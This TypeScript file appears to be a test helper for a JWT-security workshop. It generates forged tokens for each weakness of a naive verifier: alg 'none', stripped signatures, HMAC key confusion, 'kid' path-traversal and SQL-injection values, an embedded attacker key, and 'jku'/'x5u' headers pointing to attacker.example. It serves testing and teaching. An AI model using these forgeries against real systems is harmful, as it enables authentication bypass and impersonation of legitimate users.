import { execFileSync } from 'node:child_process';
import {
  createPrivateKey,
  generateKeyPairSync,
  X509Certificate,
  type KeyObject,
} from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  es256Jwt,
  hs256Jwt,
  psychicJwt,
  unsignedJwt,
  type Claims,
} from '../testing/jws-forgery.js';
import type { NaiveWeakness } from './naive-jwt.verifier.js';

/**
 * A self-signed P-256 certificate (openssl) and its private key: what an attacker serves at an
 * `x5u` URL and carries in `x5c`. Nothing is kept on disk.
 */
export function selfSignedCertificate(): { x5c: string[]; privateKey: KeyObject } {
  const dir = mkdtempSync(join(tmpdir(), 'forged-jwt-'));
  try {
    const keyFile = join(dir, 'attacker.key');
    execFileSync('openssl', [
      'ecparam',
      '-name',
      'prime256v1',
      '-genkey',
      '-noout',
      '-out',
      keyFile,
    ]);
    const certPem = execFileSync('openssl', [
      'req',
      '-new',
      '-x509',
      '-key',
      keyFile,
      '-subj',
      '/CN=attacker.example',
      '-days',
      '1',
    ]).toString();
    return {
      x5c: [new X509Certificate(certPem).raw.toString('base64')],
      privateKey: createPrivateKey(readFileSync(keyFile)),
    };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/**
 * Every `jwt-alg` forgery of the workshop, keyed by the weakness a naive verifier shows for it.
 * None needs the issuer's private key: only its `kid` and public key, which its JWKS publishes.
 */
export function algForgeries(
  claims: Claims,
  issuer: { kid: string; publicKey: KeyObject },
  typ = 'party+jwt',
): Record<NaiveWeakness, string[]> {
  const attacker = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const jwk = { ...attacker.publicKey.export({ format: 'jwk' }), kid: 'attacker' };
  const pem = issuer.publicKey.export({ type: 'spki', format: 'pem' }).toString();
  const cert = selfSignedCertificate();
  const own = { alg: 'ES256', typ, kid: issuer.kid };
  return {
    'alg-none': ['none', 'None', 'NONE', 'nOnE'].map((alg) => unsignedJwt({ alg, typ }, claims)),
    'signature-stripped': [unsignedJwt(own, claims)],
    'hmac-key-confusion': [
      hs256Jwt({ ...own, alg: 'HS256' }, claims, pem),
      hs256Jwt(
        { ...own, alg: 'HS256' },
        claims,
        JSON.stringify(issuer.publicKey.export({ format: 'jwk' })),
      ),
    ],
    'kid-injection': [
      hs256Jwt({ alg: 'HS256', typ, kid: '../../../../dev/null' }, claims, ''),
      hs256Jwt({ alg: 'HS256', typ, kid: "x' UNION SELECT ''--" }, claims, ''),
    ],
    'embedded-jwk': [
      es256Jwt({ alg: 'ES256', typ, kid: 'attacker', jwk }, claims, attacker.privateKey),
    ],
    jku: [
      es256Jwt(
        { alg: 'ES256', typ, kid: 'attacker', jku: 'https://attacker.example/jwks.json', jwk },
        claims,
        attacker.privateKey,
      ),
    ],
    x5u: [
      es256Jwt(
        { alg: 'ES256', typ, x5u: 'https://attacker.example/cert.pem', x5c: cert.x5c },
        claims,
        cert.privateKey,
      ),
    ],
    'psychic-signature': [psychicJwt(own, claims)],
  };
}
